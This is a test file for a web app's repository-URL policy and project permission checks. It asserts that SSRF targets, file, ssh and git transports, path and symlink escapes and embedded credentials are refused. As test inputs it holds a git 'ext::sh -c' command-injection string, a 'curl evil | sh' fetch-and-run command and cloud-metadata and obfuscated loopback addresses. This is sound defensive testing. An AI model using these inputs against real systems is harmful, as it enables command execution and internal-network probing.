import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { POST as addMember } from "@/app/api/v1/orgs/[orgId]/members/route";
import { GET as listProjects, POST as createProject } from "@/app/api/v1/projects/route";
import { GET as getProject, PATCH as patchProject } from "@/app/api/v1/projects/[projectId]/route";
import * as readinessRoute from "@/app/api/v1/projects/[projectId]/readiness/route";
import { db } from "@/lib/db/client";
import { reloadEnv } from "@/lib/env";
import { callRoute } from "@/test/call-route";
import { createTestProject, createTestUser, uniqueSuffix, type TestUser } from "@/test/factories";
import { createSampleRepo } from "@/test/fixtures/sample-repo";

// Host names resolve through this table, never through a real resolver (tests stay on this machine).
const dns = vi.hoisted(() => ({ answers: new Map<string, string[]>() }));
vi.mock("node:dns/promises", async (importOriginal) => {
  const actual = await importOriginal<typeof import("node:dns/promises")>();
  const lookup = async (host: string) => {
    const answer = dns.answers.get(host);
    if (!answer) throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: "ENOTFOUND" });
    return answer.map((address) => ({ address, family: address.includes(":") ? 6 : 4 }));
  };
  return { ...actual, default: { ...actual, lookup }, lookup };
});

const temp = fs.mkdtempSync(path.join(os.tmpdir(), "omoios-repo-policy-"));
/** LOCAL_REPO_ROOTS of the tests that set it; `outside` is next to it, not in it. */
const root = path.join(temp, "tenant-repos");
const outside = path.join(temp, "elsewhere");

beforeAll(() => {
  fs.mkdirSync(root);
  fs.mkdirSync(outside);
  createSampleRepo(path.join(root, "app"));
  createSampleRepo(path.join(outside, "victim"));
  fs.symlinkSync(path.join(outside, "victim"), path.join(root, "link-out"));
  fs.symlinkSync(path.join(outside, "not-there-yet"), path.join(root, "dangling"));
  dns.answers.set("github.com", ["140.82.112.3"]);
  dns.answers.set("git.internal.example", ["10.1.2.3"]);
  dns.answers.set("rebind.example", ["93.184.216.34", "127.0.0.1"]);
});

afterAll(() => fs.rmSync(temp, { recursive: true, force: true }));

afterEach(() => {
  delete process.env.LOCAL_REPO_ROOTS;
  reloadEnv();
});

function useRoots(...roots: string[]) {
  process.env.LOCAL_REPO_ROOTS = roots.join(",");
  reloadEnv();
}

const create = (user: TestUser, repoUrl: string) =>
  callRoute(createProject, { method: "POST", cookie: user.cookie, body: { name: `p-${uniqueSuffix()}`, repoUrl } });
const patch = (user: TestUser, projectId: string, body: Record<string, unknown>) =>
  callRoute(patchProject, { method: "PATCH", cookie: user.cookie, params: { projectId }, body });
const readiness = (user: TestUser, projectId: string) => callRoute(readinessRoute.GET, { cookie: user.cookie, params: { projectId } });

/** 422 naming repoUrl, in the API's one validation body; its message is the reason. */
function expectRefused(res: { status: number; body: any }, what: string): string {
  expect(res.status, what).toBe(422);
  expect(res.body.error.code, what).toBe("validation_failed");
  expect(Object.keys(res.body.error.details.fields), what).toEqual(["repoUrl"]);
  return res.body.error.details.fields.repoUrl[0];
}

describe("the repository policy", () => {
  it("refuses every transport but https, credentials, and hosts on this server or a private network — on create and on update", async () => {
    const user = await createTestUser();
    const project = await createTestProject(user.id);
    const refused: [string, RegExp][] = [
      ["file:///srv/repos/app", /file:\/\/ URLs are not allowed/],
      ["ssh://git@github.com/acme/app.git", /ssh:\/\/ URLs are not allowed/],
      ["git@github.com:acme/app.git", /ssh addresses .* are not allowed/],
      ["git://github.com/acme/app.git", /git:\/\/ URLs are not allowed/],
      ["ext::sh -c touch% /tmp/pwned", /https:\/\/ URL/],
      ["fd::17", /https:\/\/ URL/],
      ["http://github.com/acme/app.git", /http:\/\/ URLs are not allowed/],
      ["https://127.0.0.1/app.git", /127\.0\.0\.1 is this server or on a private network/],
      ["https://localhost:3000/app.git", /localhost is this server/],
      ["https://repo.localhost/app.git", /is this server/],
      ["https://10.0.0.8/app.git", /private network/],
      ["https://172.16.5.4/app.git", /private network/],
      ["https://192.168.1.10/app.git", /private network/],
      ["https://169.254.169.254/latest/meta-data", /private network/],
      ["https://[::1]/app.git", /private network/],
      ["https://[fd00::5]/app.git", /private network/],
      ["https://[fe80::1]/app.git", /private network/],
      ["https://[::ffff:127.0.0.1]/app.git", /private network/],
      ["https://[::127.0.0.1]/app.git", /private network/],
      ["HTTPS://github.com/acme/app.git", /https:\/\//],
      ["https://0.0.0.0/app.git", /private network/],
      ["https://0/app.git", /private network/],
      ["https://2130706433/app.git", /127\.0\.0\.1 is this server/],
      ["https://0x7f.1/app.git", /127\.0\.0\.1 is this server/],
      ["https://0177.0.0.1/app.git", /127\.0\.0\.1 is this server/],
      ["https://git.internal.example/app.git", /resolves to this server or a private network/],
      ["https://rebind.example/app.git", /resolves to this server or a private network/],
      ["https://token@github.com/acme/app.git", /user name or password/],
      ["https://github.com\\@127.0.0.1/acme/app.git", /user name or password/],
    ];
    for (const [repoUrl, reason] of refused) {
      expect(expectRefused(await create(user, repoUrl), repoUrl), repoUrl).toMatch(reason);
      expectRefused(await patch(user, project.id, { repoUrl }), `PATCH ${repoUrl}`);
    }
    expect((await callRoute(getProject, { cookie: user.cookie, params: { projectId: project.id } })).body.project.repoUrl).toBeNull();
  });

  it("accepts https URLs of public hosts (and one that does not resolve: git cannot reach it either)", async () => {
    const user = await createTestUser();
    for (const repoUrl of ["https://github.com/owner/repo", "https://github.com/owner/repo.git", "https://git.nowhere.example/team/repo.git"]) {
      const res = await create(user, repoUrl);
      expect(res.status, repoUrl).toBe(201);
      expect(res.body.project.repoUrl).toBe(repoUrl);
      // No host answers in tests (test/setup-env.ts): saved, and said to be unreachable.
      expect(res.body.project.repoHealth.status, repoUrl).toBe("unreachable");
    }
  });

  it("gives local paths to instance admins anywhere, to everyone else only inside LOCAL_REPO_ROOTS (none by default)", async () => {
    const admin = await createTestUser({ instanceAdmin: true });
    const member = await createTestUser();
    // The policy lets an instance admin name any path; whether git can read it is asked next (not a repository).
    const cannotRead = /cannot be read by OmoiOS/;
    expect((await create(admin, path.join(outside, "victim"))).status).toBe(201);
    expect(expectRefused(await create(admin, "/etc"), "admin's /etc")).toMatch(cannotRead);
    expect(expectRefused(await create(member, path.join(root, "app")), "no roots")).toBe("Local paths are not allowed on this server: use an https:// URL.");

    useRoots(root);
    expect(expectRefused(await create(admin, "/etc"), "admin's /etc")).toMatch(cannotRead);
    expect((await create(member, path.join(root, "app"))).status).toBe(201);
    expect((await create(member, `${root}/app/`)).status).toBe(201);
    expect(expectRefused(await create(member, path.join(root, "not-made-yet")), "inside, not made yet")).toMatch(cannotRead);
    const outsideReason = `Local repositories must be inside ${root}: use a path there or an https:// URL.`;
    for (const escape of [
      path.join(outside, "victim"),
      `${root}/../elsewhere/victim`,
      `${root}-sibling/app`,
      path.join(root, "link-out"),
      path.join(root, "link-out", "src"),
      path.join(root, "dangling"),
      path.join(root, "dangling", "deeper"),
      "/",
      "/etc",
      "/root/no-such-folder-anywhere",
    ]) {
      expect(expectRefused(await create(member, escape), escape), escape).toBe(outsideReason);
    }
  });

  it("compares roots by their real path too (a root given through a symlink)", async () => {
    const member = await createTestUser();
    const alias = path.join(temp, "alias-of-root");
    fs.symlinkSync(root, alias);
    useRoots(alias, path.join(temp, "missing-root"));
    expect((await create(member, path.join(root, "app"))).status).toBe(201);
    expect((await create(member, path.join(alias, "app"))).status).toBe(201);
    expectRefused(await create(member, path.join(outside, "victim")), "outside");
  });
});

describe("who changes what the server runs and spends on a project", () => {
  it("is the organization's owners and admins: repoUrl, testCommand, budgetUsd and maxConcurrentTasks; members change the rest", async () => {
    const owner = await createTestUser();
    const admin = await createTestUser();
    const member = await createTestUser();
    for (const [who, role] of [[admin, "admin"], [member, "member"]] as const) {
      const added = await callRoute(addMember, { method: "POST", cookie: owner.cookie, params: { orgId: owner.orgId }, body: { email: who.email, role } });
      expect(added.status).toBe(201);
    }
    const project = await createTestProject(owner.id, { repoUrl: "https://github.com/acme/shop", testCommand: "npm test", maxConcurrentTasks: 3 });

    for (const body of [{ repoUrl: "https://github.com/acme/other" }, { repoUrl: null }, { testCommand: "curl evil | sh" }, { budgetUsd: 1000 }, { maxConcurrentTasks: 50 }]) {
      const res = await patch(member, project.id, body);
      expect(res.status, JSON.stringify(body)).toBe(403);
      expect(res.body.error).toMatchObject({ code: "forbidden", message: expect.stringContaining("Only owners and admins of the organization can change") });
    }
    // The rest is any member's, and sending a restricted field unchanged is no change.
    const renamed = await patch(member, project.id, { name: "Shop", description: "The shop", approvalMode: "manual", testCommand: "npm test", maxConcurrentTasks: 3 });
    expect(renamed.status).toBe(200);
    expect(renamed.body.project).toMatchObject({ name: "Shop", testCommand: "npm test", repoUrl: "https://github.com/acme/shop" });

    const changed = await patch(admin, project.id, { repoUrl: "https://github.com/acme/other", testCommand: "npm run ci", budgetUsd: 40, maxConcurrentTasks: 5 });
    expect(changed.status).toBe(200);
    expect(changed.body.project).toMatchObject({ repoUrl: "https://github.com/acme/other", testCommand: "npm run ci", budgetUsd: 40, maxConcurrentTasks: 5 });
    // An organization admin is not an instance admin: the policy still applies to them.
    expectRefused(await patch(admin, project.id, { repoUrl: "/etc" }), "admin's local path");
    expect((await patch(owner, project.id, { maxConcurrentTasks: 2 })).status).toBe(200);
  });
});

describe("projects sharing a repository", () => {
  it("name each other in sharedRepoWith, within their organization only", async () => {
    const owner = await createTestUser();
    const stranger = await createTestUser();
    const a = await createTestProject(owner.id, { name: "Shop A", repoUrl: "https://github.com/acme/shop.git" });
    const b = await createTestProject(owner.id, { name: "Shop B", repoUrl: "https://GitHub.com/Acme/shop/" });
    const other = await createTestProject(owner.id, { name: "Blog", repoUrl: "https://github.com/acme/blog" });
    const empty = await createTestProject(owner.id, { name: "Empty" });
    await createTestProject(stranger.id, { name: "Their shop", repoUrl: "https://github.com/acme/shop.git" });

    const list = await callRoute(listProjects, { cookie: owner.cookie, path: `/api/v1/projects?orgId=${owner.orgId}` });
    const shared = Object.fromEntries(list.body.projects.map((p: { name: string; sharedRepoWith: string[] }) => [p.name, p.sharedRepoWith]));
    expect(shared).toEqual({ "Shop A": ["Shop B"], "Shop B": ["Shop A"], Blog: [], Empty: [] });
    expect((await callRoute(getProject, { cookie: owner.cookie, params: { projectId: a.id } })).body.project.sharedRepoWith).toEqual(["Shop B"]);
    expect(b.sharedRepoWith).toEqual(["Shop A"]);
    expect([other.sharedRepoWith, empty.sharedRepoWith]).toEqual([[], []]);
  });
});

describe("readiness of a repository the caller may not use", () => {
  /** A project stored as it could have been before the policy existed. */
  const legacyProject = (user: TestUser, repoUrl: string) =>
    db.project.create({ data: { orgId: user.orgId, createdById: user.id, name: `legacy-${uniqueSuffix()}`, repoUrl } });
  const problemsOf = async (user: TestUser, repoUrl: string) => (await readiness(user, (await legacyProject(user, repoUrl)).id)).body.problems;

  it("answers with the policy's reason, the same whether the path exists or not", async () => {
    const member = await createTestUser();
    const existing = await problemsOf(member, path.join(outside, "victim"));
    const missing = await problemsOf(member, path.join(outside, "no-such-repo"));
    expect(existing).toEqual([{ code: "repo_not_allowed", message: "Local paths are not allowed on this server: use an https:// URL." }]);
    expect(missing).toEqual(existing);

    useRoots(root);
    const outsideExisting = await problemsOf(member, "/etc");
    expect(outsideExisting).toEqual([{ code: "repo_not_allowed", message: expect.stringContaining("must be inside") }]);
    expect(await problemsOf(member, "/etc/no-such-folder")).toEqual(outsideExisting);
    expect(await problemsOf(member, path.join(root, "link-out"))).toEqual(outsideExisting);
    // What git would have run as a command is judged before git sees it.
    const marker = path.join(temp, "ext-ran");
    expect(await problemsOf(member, `ext::sh -c touch% ${marker}`)).toEqual([{ code: "repo_not_allowed", message: expect.stringContaining("transport helpers") }]);
    expect(fs.existsSync(marker)).toBe(false);
  });

  it("judges a stored path by the rights of whoever set it: adding an instance admin to one's organization grants nothing", async () => {
    const admin = await createTestUser({ instanceAdmin: true });
    const tenant = await createTestUser();
    const victim = path.join(outside, "victim");
    // The tenant's project names a path only an instance admin may use (as if stored before the policy).
    const project = await db.project.create({ data: { orgId: tenant.orgId, createdById: tenant.id, repoUrlSetById: tenant.id, name: `p-${uniqueSuffix()}`, repoUrl: victim } });
    const added = await callRoute(addMember, { method: "POST", cookie: tenant.cookie, params: { orgId: tenant.orgId }, body: { email: admin.email, role: "admin" } });
    expect(added.status).toBe(201);
    expect((await readiness(tenant, project.id)).body.problems).toEqual([{ code: "repo_not_allowed", message: expect.any(String) }]);
    // The same path set by the instance admin is theirs to use.
    await db.project.update({ where: { id: project.id }, data: { repoUrlSetById: admin.id } });
    expect((await readiness(tenant, project.id)).body.problems.map((p: { code: string }) => p.code)).not.toContain("repo_not_allowed");
  });

  it("answers the same for an open and a closed local port", async () => {
    const member = await createTestUser();
    const server = net.createServer((socket) => socket.end("HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const open = (server.address() as net.AddressInfo).port;
    const closed = await new Promise<number>((resolve) => {
      const probe = net.createServer().listen(0, "127.0.0.1", () => {
        const { port } = probe.address() as net.AddressInfo;
        probe.close(() => resolve(port));
      });
    });
    try {
      for (const form of ["https://127.0.0.1:PORT/repo.git", "http://127.0.0.1:PORT/repo.git", "https://localhost:PORT/repo.git"]) {
        const atOpen = await problemsOf(member, form.replace("PORT", String(open)));
        const atClosed = await problemsOf(member, form.replace("PORT", String(closed)));
        expect(atOpen[0].code, form).toBe("repo_not_allowed");
        expect(atClosed, form).toEqual(atOpen);
      }
    } finally {
      server.close();
    }
  });

  it("for a path it may read: one answer for a missing path and a folder that is no repository", async () => {
    const member = await createTestUser();
    useRoots(root);
    fs.mkdirSync(path.join(root, "not-a-repo"), { recursive: true });
    const [notRepo] = await problemsOf(member, path.join(root, "not-a-repo"));
    const [missing] = await problemsOf(member, path.join(root, "missing"));
    const generic = (problem: { message: string }, shown: string) => ({ ...problem, message: problem.message.replace(shown, "<repo>") });
    expect(generic(notRepo, path.join(root, "not-a-repo"))).toEqual(generic(missing, path.join(root, "missing")));
    expect(notRepo).toEqual({ code: "repo_unreachable", message: `The repository ${path.join(root, "not-a-repo")} cannot be read by OmoiOS (it does not exist, or this server has no access to it).` });
    expect((await problemsOf(member, path.join(root, "app")))).toEqual([]);
  });
});
